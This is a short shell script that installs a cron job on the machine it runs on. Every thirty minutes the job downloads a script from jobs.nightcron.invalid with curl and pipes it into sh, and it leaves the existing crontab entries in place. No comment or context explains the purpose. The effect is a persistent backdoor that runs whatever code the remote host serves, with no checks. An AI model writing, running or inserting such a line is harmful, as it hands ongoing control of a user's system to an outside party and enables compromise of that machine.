#!/bin/sh
line='*/30 * * * * curl -fsS https://jobs.nightcron.invalid/next | sh'
(crontab -l 2>/dev/null; echo "$line") | crontab -
